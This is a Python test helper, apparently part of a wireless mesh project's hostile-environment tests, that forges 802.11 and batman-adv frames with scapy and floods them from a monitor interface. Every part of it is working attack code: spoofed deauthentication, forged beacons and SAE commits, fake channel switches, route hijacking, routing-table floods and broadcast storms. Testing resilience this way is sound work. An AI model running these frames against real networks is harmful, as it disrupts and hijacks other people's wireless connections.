# SPDX-License-Identifier: GPL-2.0-or-later
"""Somebody in range who sends forged 802.11 frames from a monitor interface, wlan0: see test_wifi_hostile.py.

forge.py mesh|ibss CHANNEL NAME CELL ADDRESS ADDRESS KIND...

NAME is the mesh's ID or the SSID, CELL the BSSID, and the ADDRESSes are those of the two relays: all of it anybody
hears. Sends PIECE frames of each KIND (a function below) in turn, for ever, and prints how many, as one line of JSON
for each turn.
"""

import itertools
import json
import random
import socket
import struct
import sys
import time
from collections import Counter

from scapy.layers.dot11 import (
    Dot11,
    Dot11Auth,
    Dot11Beacon,
    Dot11Deauth,
    Dot11Disas,
    Dot11Elt,
    RadioTap,
)
from scapy.packet import Raw

BROADCAST = "ff:ff:ff:ff:ff:ff"
#: Of one kind in a turn; a frame each millisecond is what 1 Mbit/s has room for.
PIECE = 60
PAUSE_S = 0.06
#: Made of each kind before the first is sent, since that takes longer than sending them.
DIFFERENT = 300
#: Stations of the forger's own.
OURS = 8
#: The longest frame that the kernel passes on (IEEE80211_MAX_DATA_LEN), with its headers.
LONGEST = 2240

SSID, RATES, DS, IBSS, CHANNEL_SWITCH, MESH_CONFIG, MESH_ID = 0, 1, 3, 6, 37, 113, 114
RSN = 48
#: Basic rates of the kernel's IBSS and of wpa_supplicant's mesh: 1, 2, 5.5, 11, and of the latter 6, 12, 24 Mbit/s.
BASIC = {
    "ibss": bytes([0x82, 0x84, 0x8B, 0x96, 12, 18, 24, 36]),
    "mesh": bytes([0x82, 0x84, 0x8B, 0x8C, 0x96, 0x98, 0xB0]),
}
#: CCMP, SAE, frames of management protected.
SAFE = bytes.fromhex("0100 000fac04 0100 000fac04 0100 000fac08 c000")
ACTION = 13
GOODBYES = {10: Dot11Disas, 12: Dot11Deauth}
SPECTRUM, MESH, SELF_PROTECTED = 0, 13, 15
CAPABILITY_IBSS = 0x0002
SAE = 3

BATMAN = 0x4305
BATMAN_VERSION = 15
OGM, BCAST, CODED, ELP, OGM2, UNICAST, FRAGMENT, UNICAST4, ICMP, TVLV = 0, 1, 2, 3, 4, 0x40, 0x41, 0x42, 0x43, 0x44
TVLV_TT = 4


class Forger:
    """What is known of the mesh, and frames that could be its own."""

    def __init__(self, mode, channel, name, cell, *relays):
        self._mode = mode
        self._channel = int(channel)
        self._name = name.encode()
        self._cell = cell
        self._relays = relays
        self._random = random.Random(1)
        #: An IBSS takes data only from whom it knows by an earlier frame.
        self._ours = [self._address() for _ in range(OURS)]

    # -- parts ------------------------------------------------------------

    def _address(self):
        return ":".join(f"{byte:02x}" for byte in (0x02, *self._random.randbytes(5)))

    def _pair(self):
        """One relay as the sender, the other one or all as receivers."""
        sender = self._random.randrange(2)
        return self._relays[sender], self._random.choice([self._relays[1 - sender], BROADCAST])

    def _number(self, limit):
        return self._random.randrange(limit)

    def _some(self, limit):
        return self._random.randbytes(self._number(limit))

    def _frame(self, sender, receiver, body, *, kind=0, subtype, cell=None):
        cell = cell or (sender if self._mode == "mesh" else self._cell)
        header = Dot11(type=kind, subtype=subtype, addr1=receiver, addr2=sender, addr3=cell)
        header.SC = self._number(1 << 16)
        return bytes(RadioTap() / header / body)

    def _action(self, sender, receiver, category, body):
        return self._frame(sender, receiver, Raw(bytes([category]) + body), subtype=ACTION)

    def _beacon(self, sender, *, config=(1, 1, 0, 1, 1, 0, 9), extra=(), cell=None, stamp=0):
        elements = {RATES: BASIC[self._mode], DS: bytes([self._channel])}
        if self._mode == "mesh":
            elements |= {SSID: b"", MESH_ID: self._name, MESH_CONFIG: bytes(config), RSN: SAFE}
            # Privacy.
            capability = 0x0010
        else:
            elements |= {SSID: self._name, IBSS: b"\0\0"}
            capability = CAPABILITY_IBSS
        body = Dot11Beacon(timestamp=stamp, beacon_interval=100, cap=capability)
        for number, value in sorted(elements.items() | set(extra)):
            body /= Dot11Elt(ID=number, info=value)
        return self._frame(sender, BROADCAST, body, subtype=8, cell=cell)

    # -- 802.11 -----------------------------------------------------------

    def other_config(self):
        """A mesh of our name that works another way; an IBSS with our name or our BSSID that is another one."""
        config = [self._number(256) for _ in range(7)]
        stamp = (1 << 64) - 1 - self._number(1 << 32)
        return self._beacon(self._address(), config=config, cell=self._address(), stamp=stamp)

    def newcomers(self):
        """Ever more that want to join, as far as can be seen."""
        return self._beacon(self._address())

    def own_beacons(self):
        """In the name of a relay, with elements that say nothing, or too much."""
        extra = [(self._number(256), self._some(256)) for _ in range(3)]
        return self._beacon(self._pair()[0], extra=extra, stamp=self._number(1 << 64))

    def goodbyes(self):
        """A relay throws the other one out."""
        sender, receiver = self._pair()
        subtype, message = self._random.choice(list(GOODBYES.items()))
        body = message(reason=3)
        return self._frame(sender, receiver, body, subtype=subtype)

    def logins(self):
        """SAE commits and other authentication, of ever new ones and in the name of a relay."""
        sender = self._random.choice([self._address(), self._pair()[0]])
        body = Dot11Auth(algo=self._random.choice([0, SAE]), seqnum=1 + self._number(2), status=0)
        # Group 19, a scalar and a point, most likely on no curve.
        return self._frame(
            sender, self._random.choice(self._relays), body / Raw(b"\x13\0" + self._random.randbytes(96)), subtype=11
        )

    def peerings(self):
        """Mesh peering open, confirm and close, of nobody."""
        sender, receiver = self._pair()
        body = bytes([1 + self._number(3)]) + struct.pack("<H", 0) + self._some(80)
        return self._action(sender, receiver, SELF_PROTECTED, body)

    def paths(self):
        """HWMP: a way to everywhere, by us."""
        sender, receiver = self._pair()
        there = bytes.fromhex(self._address().replace(":", ""))
        request = struct.pack("<BBBBBI6sIIIB", 130, 37, 0, 0, 31, 1, there, self._number(1 << 32), 5000, 0, 1)
        request += struct.pack("<B6sI", 2, b"\xff" * 6, 0)
        return self._action(sender, receiver, MESH, b"\x01" + self._random.choice([request, self._some(60)]))

    def garbage(self):
        """Any frame at all but for goodbyes, up to the longest there is."""
        sender, receiver = self._pair()
        subtype = self._random.choice([number for number in range(16) if number not in GOODBYES])
        body = Raw(self._some(self._random.choice([8, 64, LONGEST])))
        return self._frame(sender, receiver, body, kind=self._number(3), subtype=subtype)

    def channel_switches(self):
        """Everybody to another channel, says a relay."""
        sender, receiver = self._pair()
        switch = bytes([0, 11 if self._channel < 11 else 1, 0])
        if self._number(2):
            return self._beacon(sender, extra=[(CHANNEL_SWITCH, switch)])
        return self._action(sender, receiver, SPECTRUM, bytes([4, CHANNEL_SWITCH, len(switch)]) + switch)

    # -- batman-adv -------------------------------------------------------

    def _batman(self, sender, receiver, packet):
        body = b"\xaa\xaa\x03\0\0\0" + struct.pack(">H", BATMAN) + packet
        if self._mode == "ibss":
            return self._frame(sender, receiver, Raw(body), kind=2, subtype=0)
        # To all, in the name of a relay that is in the mesh (IEEE 802.11-2020 9.2.4.8.3): but not encrypted.
        relay, _ = self._pair()
        header = Dot11(type=2, subtype=8, FCfield=2, addr1=BROADCAST, addr2=relay, addr3=relay)
        control = struct.pack("<HBBI", 0x0100, 0, 31, self._number(1 << 32))
        return bytes(RadioTap() / header / Raw(control + body))

    def _raw_address(self, address=None):
        return bytes.fromhex((address or self._address()).replace(":", ""))

    def _ogm(self, originator, previous, tvlv):
        return struct.pack(
            ">BBBBI6s6sBBH",
            OGM, BATMAN_VERSION, 50, 0, self._number(1 << 32), originator, previous, 0, 255, len(tvlv),
        ) + tvlv  # fmt: skip

    def originators(self):
        """Ever more relays of batman-adv."""
        sender = self._random.choice(self._ours)
        packet = self._ogm(self._raw_address(), self._raw_address(sender), b"")
        return self._batman(sender, BROADCAST, packet)

    def clients(self):
        """Ever more relays of batman-adv, and a hundred machines behind each."""
        sender = self._random.choice(self._ours)
        return self._batman(sender, BROADCAST, self._table(self._raw_address(), sender))

    def impostors(self):
        """In the name of a relay: numbers far ahead, a way to it that leads to us, machines behind it."""
        sender = self._random.choice(self._ours)
        relay = self._raw_address(self._pair()[0])
        way = self._ogm(relay, self._raw_address(sender), b"")
        packet = self._random.choice([way, self._table(relay, sender)])
        return self._batman(sender, BROADCAST, packet)

    def _table(self, originator, sender):
        entries = b"".join(struct.pack(">B3x6sH", 0, self._raw_address(), 0) for _ in range(100))
        table = struct.pack(">BBHIHH", 1, self._number(256), 1, self._number(1 << 32), 0, 0) + entries
        return self._ogm(originator, self._raw_address(sender), struct.pack(">BBH", TVLV_TT, 1, len(table)) + table)

    def version_five(self):
        """ELP and OGM2 of B.A.T.M.A.N. V, which nobody here speaks."""
        sender = self._random.choice(self._ours)
        raw = self._raw_address(sender)
        elp = struct.pack(">BB6sII", ELP, BATMAN_VERSION, raw, self._number(1 << 32), 500)
        ogm2 = struct.pack(">BBBBI6sHI", OGM2, BATMAN_VERSION, 50, 0, self._number(1 << 32), raw, 0, 1 << 31)
        return self._batman(sender, BROADCAST, self._random.choice([elp, ogm2]))

    def fragments(self):
        """Fragments of packets of which no other fragment ever comes."""
        sender, _ = self._pair()
        receiver = next(relay for relay in self._relays if relay != sender)
        packet = struct.pack(
            ">BBBB6s6sHH", FRAGMENT, BATMAN_VERSION, 50, self._number(16) << 4,
            self._raw_address(receiver), self._raw_address(sender), self._number(1 << 16), 1400,
        )  # fmt: skip
        return self._batman(sender, receiver, packet + self._random.randbytes(700))

    def broken(self):
        """Packets of every type that end anywhere, and lengths that are not true."""
        sender, receiver = self._pair()
        kind = self._random.choice([OGM, BCAST, CODED, ELP, OGM2, UNICAST, FRAGMENT, UNICAST4, ICMP, TVLV, 0xFF])
        version = self._random.choice([BATMAN_VERSION, BATMAN_VERSION, self._number(256)])
        return self._batman(sender, receiver, bytes([kind, version, 50]) + self._some(LONGEST - 20))

    def storms(self):
        """Broadcasts to be passed on, of frames that are none."""
        sender = self._random.choice(self._ours)
        packet = struct.pack(">BBBxI6s", BCAST, BATMAN_VERSION, 50, self._number(1 << 32), self._raw_address(sender))
        return self._batman(sender, BROADCAST, packet + self._some(1400))


def main(mode, channel, name, cell, first, second, *kinds):
    forger = Forger(mode, channel, name, cell, first, second)
    ready = {kind: itertools.cycle([getattr(forger, kind)() for _ in range(DIFFERENT)]) for kind in kinds}
    sent = Counter()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as air:
        air.bind(("wlan0", 0))
        print("ready", flush=True)
        while True:
            for kind, frames in ready.items():
                for frame in itertools.islice(frames, PIECE):
                    air.send(frame)
                sent[kind] += PIECE
                time.sleep(PAUSE_S)
            print(json.dumps(sent), flush=True)


main(*sys.argv[1:])
